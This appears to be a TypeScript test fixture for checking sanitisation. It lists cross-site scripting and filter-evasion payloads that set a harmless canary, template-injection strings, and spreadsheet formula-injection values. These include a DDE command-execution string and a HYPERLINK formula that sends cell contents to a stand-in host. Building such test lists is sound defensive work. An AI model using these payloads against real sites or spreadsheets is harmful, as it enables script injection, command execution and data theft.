/**
 * Texts of which each, taken for something else than a text, sets `canary` on the page: our own list, by the place that it
 * would break out of. Written after the classes of the OWASP cheat sheet on the evasion of XSS filters.
 */
const RUN = 'window.canary=1';

/** Markup that runs by itself wherever it is parsed. */
const MARKUP = [
  `<script>${RUN}</script>`,
  `<script>${RUN}//`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<script/x>${RUN}</script>`,
  `<<script>${RUN}//<</script>`,
  `<img src=x onerror=${RUN}>`,
  `<img src=x onerror="${RUN}"`,
  `<img/src=x/onerror=${RUN}>`,
  `<img src="x\`\`onerror=${RUN}">`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='${RUN}'/></svg>#x">`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `<iframe srcdoc="<script>parent.canary=1</script>">`,
  `<iframe src="javascript:parent.canary=1">`,
  `<object data="javascript:${RUN}">`,
  `<embed src="javascript:${RUN}">`,
  `<details open ontoggle=${RUN}>`,
  `<video><source onerror=${RUN}>`,
  `<audio src=x onerror=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}>`,
  `<body onload=${RUN}>`,
  `<marquee onstart=${RUN}>`,
  `<style>@import 'x';*{animation:x}</style><b style=animation-name:x onanimationstart=${RUN}>`,
  `<link rel=stylesheet href=x onerror=${RUN}>`,
  `<base href="javascript:/">`,
  `<meta http-equiv=refresh content="0;javascript:${RUN}">`,
  `<template shadowrootmode=open><script>${RUN}</script></template>`,
  `<ctg-service-finder feed="javascript:${RUN}"></ctg-service-finder>`,
];
/** Ways out of an attribute, of a text that cannot hold markup, of a comment, of a script. */
const BREAKS = [
  `"><script>${RUN}</script>`,
  `'><img src=x onerror=${RUN}>`,
  `" onmouseover="${RUN}`,
  `' autofocus onfocus='${RUN}`,
  `\` onload=${RUN} \``,
  `" style="animation-name:x" onanimationstart="${RUN}`,
  `</title><img src=x onerror=${RUN}>`,
  `</textarea><img src=x onerror=${RUN}>`,
  `</style><img src=x onerror=${RUN}>`,
  `</script><script>${RUN}</script>`,
  `</option></select><img src=x onerror=${RUN}>`,
  `</noscript><img src=x onerror=${RUN}>`,
  `--><img src=x onerror=${RUN}>`,
  `--!><img src=x onerror=${RUN}>`,
  `]]><img src=x onerror=${RUN}>`,
  `\u2028${RUN}//`,
  `";${RUN};//`,
  `';${RUN};//`,
  `\\";${RUN};//`,
];
/** Addresses that run, as they are hidden from whoever looks for them. */
export const ADDRESSES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  ` javascript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `java\tscript:${RUN}`,
  `java\nscript:${RUN}`,
  `java\0script:${RUN}`,
  `javascript\t:${RUN}`,
  `javascript://x.example/%0A${RUN}`,
  `javascript&colon;${RUN}`,
  `&#106;avascript:${RUN}`,
  `vbscript:${RUN}`,
  `data:text/html,<script>parent.canary=1</script>`,
  `data:text/html;base64,PHNjcmlwdD5wYXJlbnQuY2FuYXJ5PTE8L3NjcmlwdD4=`,
  `blob:x`,
  `file:///etc/passwd`,
  `//x.example/x.js`,
  `https:javascript:${RUN}`,
];
/** What template engines and our own templates would take for theirs. */
const TEMPLATES = [
  '${window.canary=1}',
  '{{constructor.constructor("window.canary=1")()}}',
  '<?lit$0$?>',
  '<!--?lit$123456789$-->',
  '{{lit-123456789}}',
  '$lit$ lit$0$',
  '%%canary%%',
  '#{canary}',
];
/** Texts that are right, and odd. */
const ODD = [
  '\uD83D',
  'a\u0000b',
  '\u202Eedart\u2066',
  'e\u0301\u0327'.repeat(40),
  '🏳️‍🌈👩‍🚒🧑🏿‍🤝‍🧑🏻',
  '\u200B\uFEFF\u00ADx',
  'İıſﬃẞ',
  'عربي עברית',
  'x'.repeat(5_000),
  '__proto__',
  'constructor',
  'hasOwnProperty',
  '(a+)+$',
  '[object Object]',
  '\\u003cscript\\u003e',
  '%3Cscript%3E',
];

/** What spreadsheets take for a formula, or for more than a cell. */
export const FORMULAS: readonly string[] = [
  '=1+1',
  '+33 1',
  '-1+1',
  '@SUM(A1)',
  '=cmd|"/C calc"!A0',
  '=HYPERLINK("https://x.example?"&A1)',
  '=HYPERLINK("https://x.example?"&A1)\nsuite',
  '=1+1\nx',
  '\n=1',
  '\t=1',
  '\r=1',
  ' =1',
  '\u00a0=1',
  '\0=1',
  '\u0001=1',
  '＝1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  '";=1',
  ';=1;',
  'x\r\n=1;=1',
  "'=1",
];

export const PAYLOADS: readonly string[] = [...MARKUP, ...BREAKS, ...ADDRESSES, ...TEMPLATES, ...ODD];

/** The big list of naughty strings (MIT), where the folder of real files is; else none. */
export const naughtyStrings = async (): Promise<readonly string[]> =>
  (await (await fetch('/__naughty')).json()) as string[];
